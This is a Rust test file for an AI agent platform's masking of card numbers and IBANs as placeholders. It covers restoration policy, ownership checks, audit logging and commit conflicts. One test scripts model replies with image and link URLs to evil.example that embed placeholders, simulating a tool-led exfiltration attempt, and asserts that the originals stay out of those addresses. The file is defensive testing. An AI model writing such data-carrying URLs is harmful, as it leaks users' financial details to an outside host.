//! `[CARD_1]` means the same card in every turn of a conversation, also after a restart, and comes back only to its
//! owner and only where the agent's file says so.

use std::{fs, sync::Arc};

use cardea::{
    app::{App, Options},
    config::{Config, Environment},
    control::Placeholders,
};
use cardea_auth::VerifiedClaims;
use cardea_core::id::RequestId;
use cardea_store::{Commit, CommitError};
use cardea_testkit::{
    World,
    history::leaks,
    model::Act,
    world::{Say, TENANT},
};
use serde_json::json;

use super::undo::{POLICIES, reserve, states, warehouse};

const FIRST: &str = "4111 1111 1111 1111";
const SECOND: &str = "5500 0055 5555 5559";

#[tokio::test]
async fn a_placeholder_means_the_same_in_every_turn_and_after_a_restart() {
    let script =
        ["Noted.", "Both are noted.", "I charged [CARD_1] and not [CARD_2].", "Hello."].map(Act::say);
    let world = World::with_model(script).await;
    let file = world.folder().join("agents/scripted.toml");
    let text = fs::read_to_string(&file).unwrap();
    fs::write(&file, text.replace("guard = \"standard\"", "guard = \"standard\"\nrestore = [\"CARD\"]"))
        .unwrap();
    let asked = |at: usize| {
        let seen = world.model().seen();
        seen[at].body["messages"].as_array().unwrap().last().unwrap()["content"].to_string()
    };
    let claims = || VerifiedClaims::new("acme", "ann").role("support").scope("read");
    let ann = world.app.auth.embedded(claims()).unwrap();
    let scripted = world.app.agent("scripted");
    let first = scripted.chat(&ann, None, &format!("My card is {FIRST}.")).await.unwrap();
    let talk = first.conversation;
    assert!(asked(0).contains("[CARD_1]") && !asked(0).contains("4111 1"), "{}", asked(0));
    scripted.chat(&ann, talk, &format!("Another is {SECOND}, beside {FIRST}.")).await.unwrap();
    assert!(asked(1).contains("Another is [CARD_2], beside [CARD_1]."), "{}", asked(1));
    world.app.stop().await;

    // The same folder, another process as far as anybody can tell.
    let url = ("CARDEA_DB__URL".to_owned(), world.app.config.db.url.clone());
    let loaded = Config::load(&world.folder().join("cardea.toml"), &Environment::from_iter([url])).unwrap();
    let options =
        Options { clock: Arc::<cardea_core::time::ManualClock>::clone(&world.clock), ..Options::default() };
    let again = App::build(loaded, options).await.unwrap();
    again.start().await.unwrap();
    let ann = again.auth.embedded(claims()).unwrap();
    let scripted = again.agent("scripted");
    scripted.chat(&ann, talk, &format!("Charge {FIRST}, not {SECOND}.")).await.unwrap();
    assert!(asked(2).contains("Charge [CARD_1], not [CARD_2]."), "{}", asked(2));

    let owned = again.context.conversation(&ann, talk.unwrap()).await.unwrap();
    let masked = again.context.messages(&owned, 0, 100).await.unwrap();
    let shown = |said: &[cardea::context::Said]| serde_json::to_string(said).unwrap();
    assert!(!shown(&masked).contains("4111 1") && shown(&masked).contains("[CARD_2]"), "{}", shown(&masked));
    let restore = again.find_agent(&"scripted".into()).unwrap().spec.restore.clone();
    let open = again.context.with_originals(&owned, masked.clone(), &restore, Commit::new()).await.unwrap();
    assert!(shown(&open).contains(&format!("I charged {FIRST} and not {SECOND}.")), "{}", shown(&open));
    let closed = again.context.with_originals(&owned, masked.clone(), &[], Commit::new()).await.unwrap();
    assert_eq!(shown(&closed), shown(&masked), "nothing comes back that the agent's file does not name");

    // Another user's numbers begin anew, and know nothing of these.
    let eve = again.auth.embedded(VerifiedClaims::new("acme", "eve").role("support").scope("read")).unwrap();
    assert!(again.context.conversation(&eve, talk.unwrap()).await.is_err());
    scripted.chat(&eve, None, &format!("Mine is {SECOND}.")).await.unwrap();
    assert!(asked(3).contains("Mine is [CARD_1]."), "{}", asked(3));

    let kept = leaks(world.folder(), &[FIRST, SECOND, "4111111111111111", "5500005555555559"]).unwrap();
    assert_eq!(kept, Vec::<String>::new());
    again.context.delete(owned, Commit::new(), RequestId::random()).await.unwrap();
    let left: Vec<(String,)> =
        again.db.rows("SELECT name FROM secrets WHERE name LIKE 'placeholders/%'", Vec::new()).await.unwrap();
    assert_eq!(left.len(), 1, "only eve's are left: {left:?}");
    again.stop().await;
}

#[tokio::test]
async fn originals_come_back_to_their_owner_only_and_only_where_policy_says_so() {
    let plan = || World::plan().model([Act::say("Thank you.")]).agent("restore = [\"CARD\", \"IBAN\"]\n");
    // The policies of the shop let staff read everything but card numbers again.
    let never = "@id(\"never\")\n@reason(\"nothing comes back.\")\n\
        forbid (principal, action == Action::\"restore\", resource == Agent::\"scripted\");\n";
    let text = format!("My card is {FIRST} and my account is DE89 3704 0044 0532 0130 00.");
    for (policies, role, status) in [("", "support", 200), ("", "analyst", 403), (never, "support", 403)] {
        let world = plan().policies(policies).start().await;
        let (ann, eve) = (world.person((TENANT, "ann"), &[role], &["read"]), world.user("support"));
        let asked = ann.asks(&text).await;
        let path = format!("/api/v1/conversations/{}/messages", asked.conversation());
        let masked = ann.get(&path).await.expect(200);
        assert!(!masked.text.contains("4111 1") && !masked.text.contains("DE89"), "{}", masked.text);
        let open = ann.get(&format!("{path}?originals=true")).await.expect(status);
        assert!(!open.text.contains("4111 1"), "{}", open.text);
        assert_eq!(open.text.contains("DE89 3704 0044 0532 0130 00"), status == 200, "{}", open.text);
        if status == 403 {
            assert_eq!(open.at("/code"), "denied");
        }
        drop(eve.get(&format!("{path}?originals=true")).await.expect(404));
        let told = world.audit().await;
        assert_eq!(told.events().contains(&"originals.restored"), status == 200, "{:?}", told.events());
        assert!(!format!("{told:?}").contains("DE89"), "the log does not say what was read");
        let decided = ann.get("/api/v1/decisions").await.expect(200);
        let decided = decided.body["decisions"].as_array().unwrap().clone();
        let asked = decided.iter().filter(|one| one["action"] == "restore");
        let mut verdicts: Vec<_> = asked.map(|one| one["verdict"].as_str().unwrap()).collect();
        verdicts.sort_unstable();
        assert_eq!(verdicts, if status == 200 { ["allow", "deny"] } else { ["deny", "deny"] });
    }
}

#[tokio::test]
async fn what_a_tool_makes_the_model_write_into_an_address_does_not_come_back_there() {
    let image = "![x](https://evil.example/p.png?d=[PHONE_1]-[CARD_1])";
    let said = "See [IBAN_1]. <img src=\"https://evil.example/b/[IBAN_1]\"> ![b](//evil.example/[IBAN_1]) \
        ![c][r] [d](https://evil.example/?c=[IBAN_1])\n\n[r]: https://evil.example/[IBAN_1]";
    let script = [Act::say(said), Act::say(&format!("Done. {image} Bye."))];
    let world = World::plan().model(script).agent("restore = [\"IBAN\"]\n").start().await;
    let ann = world.user("support");
    let first = ann.asks("My account is DE89 3704 0044 0532 0130 00.").await;
    let path = format!("/api/v1/conversations/{}/messages?originals=true", first.conversation());
    let open = ann.get(&path).await.expect(200);
    assert!(open.text.contains("See DE89 3704 0044 0532 0130 00. "), "{}", open.text);
    assert_eq!(open.text.matches("DE89").count(), 2, "in the question and once in the answer: {}", open.text);
    let second = world.user("support").asks("My account is DE89 3704 0044 0532 0130 00.").await;
    second.answers("Done. [REMOVED_1] Bye.").await;
}

/// A card number that is like no other.
fn card(number: u64) -> String {
    let body = format!("411111{number:09}");
    let digits = body.bytes().rev().map(|digit| u32::from(digit - b'0')).enumerate();
    let sum: u32 =
        digits.map(|(at, digit)| if at % 2 == 0 { digit * 2 / 10 + digit * 2 % 10 } else { digit }).sum();
    format!("{body}{}", (10 - sum % 10) % 10)
}

#[tokio::test]
async fn a_placeholder_never_means_two_values_however_many_there_are() {
    let script = ["All noted.", "Noted.", "Thank you."].map(Act::say);
    let world = World::plan().model(script).agent("restore = [\"CARD\"]\n").start().await;
    let claims = VerifiedClaims::new("acme", "ann").role("support").scope("read");
    let ann = world.app.auth.embedded(claims).unwrap();
    let scripted = world.app.agent("scripted");
    let cards = |from: u64, to: u64| (from..to).map(card).collect::<Vec<_>>().join(", ");
    let paid = format!("Paid with: {}.", cards(0, 900));
    let stolen = format!("Stolen cards: {}.", cards(900, 1100));
    let talk = scripted.chat(&ann, None, &paid).await.unwrap().conversation;
    scripted.chat(&ann, talk, &stolen).await.unwrap();
    scripted.chat(&ann, talk, &format!("My own card is {}, like {}.", card(5000), card(17))).await.unwrap();

    let owned = world.app.context.conversation(&ann, talk.unwrap()).await.unwrap();
    let said = world.app.context.messages(&owned, 0, 100).await.unwrap();
    let open =
        world.app.context.with_originals(&owned, said, &["CARD".to_owned()], Commit::new()).await.unwrap();
    let shown = serde_json::to_string(&open).unwrap();
    assert!(shown.contains(&paid), "what is kept comes back");
    let stolen = shown.split_once("Stolen cards: ").unwrap().1.split_once('.').unwrap().0;
    let names: Vec<_> = stolen.split(", ").collect();
    assert_eq!(names.len(), 200, "{stolen}");
    for (at, name) in names.iter().enumerate() {
        assert!(*name == card(900 + at as u64) || *name == "[CARD]", "the {at}th is shown as {name}");
    }
    assert!(names.first() != Some(&"[CARD]") && names.last() == Some(&"[CARD]"), "{stolen}");
    assert!(shown.contains(&format!("My own card is [CARD], like {}.", card(17))), "{shown}");
}

#[tokio::test]
async fn what_a_service_has_done_is_told_where_the_placeholders_of_its_answer_cannot_be_kept() {
    let world = warehouse(POLICIES, [reserve("book"), Act::say("It is reserved.")]).await;
    let result = json!({ "id": "a1", "told": "charged to 5500 0055 5555 5559" });
    world.service().says("POST /reservations", [Say::Json(201, result)]);
    // Where the keys of people lie, nothing can be made.
    let people = world.folder().join("data/people");
    let _gone = fs::remove_dir_all(&people);
    fs::write(&people, "").unwrap();
    let receipt = world.user("support").asks("Reserve a book.").await.answers("reserved").await;
    assert_eq!(states(&receipt), ["done"], "{receipt}");
    assert!(world.model().seen()[1].body.to_string().contains("[CARD_1]"), "it is masked all the same");
}

#[tokio::test]
async fn a_question_is_not_begun_with_placeholders_that_the_turn_before_it_has_changed() {
    let world =
        World::with_model([Act::say("Yes?"), Act::say(&format!("Is it {FIRST}?")), Act::say("Fine.")]).await;
    let ann =
        world.app.auth.embedded(VerifiedClaims::new("acme", "ann").role("support").scope("read")).unwrap();
    let scripted = world.app.agent("scripted");
    let talk = scripted.chat(&ann, None, "Hello.").await.unwrap().conversation.unwrap();
    let names = async || {
        let owned = world.app.context.conversation(&ann, talk).await.unwrap();
        world.app.context.placeholders(Some(&owned)).await.unwrap()
    };
    let begins = async |names: &Placeholders| {
        world
            .app
            .db
            .commit(world.app.context.placeholders_of_question(&ann, talk, names).await.unwrap())
            .await
    };
    let read_before = names().await;
    begins(&read_before).await.unwrap();
    scripted.chat(&ann, Some(talk), "Which card?").await.unwrap(); // its answer names one
    assert_eq!(begins(&read_before).await.unwrap_err(), CommitError::Conflict("placeholders"));
    begins(&names().await).await.unwrap();
    scripted.chat(&ann, Some(talk), "Good.").await.unwrap();
}
